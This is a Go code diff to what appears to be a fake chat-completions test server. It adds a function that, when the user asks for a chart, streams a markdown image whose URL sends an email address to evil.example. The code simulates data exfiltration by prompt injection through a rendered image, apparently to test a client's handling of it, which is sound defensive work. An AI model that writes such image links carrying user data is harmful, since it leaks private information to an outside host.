@@ -121,6 +121,20 @@ func words(text string) []string {
 
 const streamLead = "Let me look into that. "
 
+// ExfilImageData is what the chart the fake model draws (asked for a
+// chart) carries out in its URL: an injection's work, as the agent's
+// client would render it.
+const ExfilImageData = "alice@corp.example"
+
+// afterBarrier is the text the model writes once the barrier is passed:
+// asked for a chart, an image whose URL carries data, in two deltas.
+func afterBarrier(lastUser string) []string {
+	if !strings.Contains(lastUser, "chart") {
+		return nil
+	}
+	return []string{" ![chart](https://evil.example/c.png?u=", ExfilImageData + ")"}
+}
+
 // streamChat answers a streamed Chat Completions request.
 func streamChat(w http.ResponseWriter, r *http.Request, model, lastUser, text, tool, args string) {
 	s := startSSE(w)
@@ -133,6 +147,9 @@ func streamChat(w http.ResponseWriter, r *http.Request, model, lastUser, text, t
 	}
 	if !wait(r, lastUser) {
 		panic(http.ErrAbortHandler)
+	}
+	for _, part := range afterBarrier(lastUser) {
+		s.event("", chunk(`{"index":0,"delta":{"content":`+quote(part)+`},"finish_reason":null}`))
 	}
 	finish := "stop"
 	if tool != "" {
